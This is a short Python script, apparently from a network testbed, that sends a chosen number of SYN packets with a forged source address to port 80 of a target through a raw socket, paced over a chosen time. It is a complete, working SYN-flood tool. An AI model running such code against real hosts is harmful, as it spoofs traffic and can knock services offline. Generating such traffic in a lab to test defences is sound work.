#!/usr/bin/env python3
# usage: scripts/synflood.py SOURCE DESTINATION COUNT SECONDS   (as root, e.g. in a linux node:
#   nicbed exec l1 -- python3 scripts/synflood.py 10.0.1.99 10.0.1.1 20000 10)
# COUNT SYNs to DESTINATION:80 from a forged SOURCE and successive source ports, paced evenly over
# SECONDS (a burst catches up whatever a late wake-up missed), through a raw socket: what
# hping3 -S -a does, without depending on its timer.
import socket, struct, sys, time

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

source, destination, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
src, dst = socket.inet_aton(source), socket.inet_aton(destination)
start = time.monotonic()
sent = 0
while sent < count:
    due = min(count, int((time.monotonic() - start) / seconds * count) + 1)
    while sent < due:
        port = 20000 + sent % 40000
        # MSS 1460, SACK permitted, timestamps, window scale 7: the options Linux's SYN carries.
        options = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BB", 4, 2) + struct.pack("!BBII", 8, 10, sent, 0) + struct.pack("!BBBB", 1, 3, 3, 7)
        offset = (20 + len(options)) // 4
        header = struct.pack("!HHIIBBHHH", port, 80, (sent * 2654435761) & 0xFFFFFFFF, 0, offset << 4, 0x02, 64240, 0, 0)
        segment = header + options
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(segment))
        segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), sent & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
        raw.sendto(ip + segment, (destination, 0))
        sent += 1
    time.sleep(0.001)
print("%d SYNs sent in %.1f s" % (sent, time.monotonic() - start))
